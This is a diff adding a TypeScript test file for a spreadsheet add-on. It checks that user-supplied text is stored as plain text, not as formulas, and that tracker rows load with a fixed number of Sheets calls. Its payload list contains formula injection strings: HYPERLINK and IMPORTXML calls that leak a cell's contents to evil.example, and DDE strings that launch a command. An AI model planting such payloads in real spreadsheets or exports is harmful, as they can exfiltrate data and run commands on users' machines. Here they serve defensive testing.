@@ -1,0 +1,123 @@
+import { describe, expect, it } from "vitest";
+import { toSheetValue } from "../../src/sheets/cell-input";
+import { insertTemplates } from "../../src/sheets/insert-templates";
+import { appendTrackerRows } from "../../src/sheets/tracker-rows";
+import { formula, type SheetRef, UserError, type WorkbookPort } from "../../src/sheets/workbook";
+import { inMemory } from "./helpers";
+
+/** OWASP's CSV / formula injection examples, and the characters it lists. */
+const PAYLOADS = [
+  "=1+1",
+  '=HYPERLINK("https://evil.example/?leak="&A1, "Click me")',
+  '=IMPORTXML(CONCAT("https://evil.example/?v=", A1), "//a")',
+  "=cmd|' /C calc'!A0",
+  "+1+1",
+  "-1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "'=1+1",
+  "=",
+];
+
+function trackerOf(port: WorkbookPort): SheetRef {
+  const ref = port.ownSheets().find((s) => s.kind === "tracker")?.ref;
+  if (!ref) throw new Error("no tracker");
+  return ref;
+}
+
+describe("user text is written as text", () => {
+  it.each(PAYLOADS)("%j stays the exact text and never becomes a formula", (payload) => {
+    const { spreadsheet, port } = inMemory();
+    const sheet = port.createSheet("Report", "settings", { rows: 10, columns: 3 });
+    port.writeTable(sheet, { row: 1, column: 1, values: [[payload, "Lena", formula("=1+1")]] });
+    const range = spreadsheet.sheetNamed("Report")?.getRange("A1:C1");
+    expect(range?.getValues()).toEqual([[payload, "Lena", 2]]);
+    expect(range?.getFormulas()).toEqual([["", "", "=1+1"]]);
+  });
+
+  it("tracker rows keep injected notes, handles and campaign names as text", () => {
+    const { spreadsheet, port } = inMemory();
+    insertTemplates(port);
+    const rows = PAYLOADS.map((payload) => {
+      const row: (string | number)[] = Array(22).fill("");
+      row[0] = payload;
+      row[2] = payload;
+      row[21] = payload;
+      row[6] = 5000;
+      return row;
+    });
+    appendTrackerRows(port, trackerOf(port), rows);
+    const sheet = spreadsheet.sheetNamed("Campaign Tracker");
+    const values = sheet?.getRange(3, 1, PAYLOADS.length, 22).getValues() ?? [];
+    const formulas = sheet?.getRange(3, 1, PAYLOADS.length, 22).getFormulas() ?? [];
+    values.forEach((row, i) => {
+      expect([row[0], row[2], row[21]]).toEqual([PAYLOADS[i], PAYLOADS[i], PAYLOADS[i]]);
+    });
+    expect(formulas.flat().filter(Boolean)).toEqual([]);
+  });
+
+  it("marks only risky text and refuses numbers a cell cannot hold", () => {
+    expect(toSheetValue("Spring launch")).toBe("Spring launch");
+    expect(toSheetValue("=1")).toBe("'=1");
+    expect(toSheetValue(12.5)).toBe(12.5);
+    expect(toSheetValue(null)).toBe("");
+    expect(() => toSheetValue(Number.NaN)).toThrow("Cannot write NaN");
+  });
+});
+
+describe("tracker rows", () => {
+  it("are appended below the last filled row, formats carrying down", () => {
+    const { spreadsheet, port } = inMemory();
+    insertTemplates(port);
+    const tracker = trackerOf(port);
+    const post = (name: string) => [name, ...Array(17).fill(""), 100, ...Array(3).fill("")];
+    appendTrackerRows(port, tracker, [post("First")]);
+    appendTrackerRows(port, tracker, [post("Second"), post("Third")]);
+    const sheet = spreadsheet.sheetNamed("Campaign Tracker");
+    expect(sheet?.getRange("A3:A6").getValues()).toEqual([["First"], ["Second"], ["Third"], [""]]);
+    expect(sheet?.getRange("S5").getNumberFormats()).toEqual([["[$$]#,##0.00"]]);
+    expect(sheet?.getRange("S2").getValue()).toBe(300);
+  });
+
+  it("of the wrong width are refused before anything is written", () => {
+    const { spreadsheet, port } = inMemory();
+    insertTemplates(port);
+    spreadsheet.log.reset();
+    expect(() => appendTrackerRows(port, trackerOf(port), [["too", "short"]])).toThrow(UserError);
+    expect(spreadsheet.log.counts.get("Range.setValues")).toBeUndefined();
+  });
+});
+
+describe("Sheets calls do not grow with the row count", () => {
+  function callsToLoad(rows: number): number {
+    const { spreadsheet, port } = inMemory();
+    insertTemplates(port);
+    const tracker = trackerOf(port);
+    const data = Array.from({ length: rows }, (_, i) => {
+      const row: (string | number)[] = Array(22).fill("");
+      row[0] = "Campaign";
+      row[3] = "Instagram";
+      row[7] = 1000 + i;
+      row[18] = 50;
+      return row;
+    });
+    spreadsheet.log.reset();
+    appendTrackerRows(port, tracker, data);
+    return spreadsheet.log.total;
+  }
+
+  // npm run bench compares 100 with 50,000 rows; 5,000 keeps the test quick.
+  it("loading 100 or 5,000 tracker rows takes the same calls", () => {
+    expect(callsToLoad(5_000)).toBe(callsToLoad(100));
+  });
+
+  it("inserting templates takes a fixed, small number of calls", () => {
+    const { spreadsheet, port } = inMemory();
+    spreadsheet.log.reset();
+    insertTemplates(port);
+    expect(spreadsheet.log.total).toBeLessThan(160);
+    expect(spreadsheet.log.counts.get("Range.setValues")).toBe(14);
+  });
+});
